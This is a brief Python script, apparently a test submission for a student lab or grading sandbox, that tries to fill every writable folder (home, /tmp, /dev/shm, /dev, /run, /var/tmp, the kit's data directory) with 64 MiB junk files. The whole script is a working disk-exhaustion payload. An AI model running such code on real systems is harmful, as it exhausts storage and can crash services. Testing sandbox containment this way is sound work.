"""Fills every folder that it can write to, and looks for more.

base: untouched
score: 0
"""
# %% extra after=sampling
import os

for folder in ("/home/student", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", os.path.dirname(labkit.data.__file__)):
    for number in range(64):
        try:
            with open(f"{folder}/full-{number}", "wb") as file:
                for _ in range(64):
                    file.write(b"x" * (1 << 20))
        except OSError as error:
            print(folder, number, error)
            break
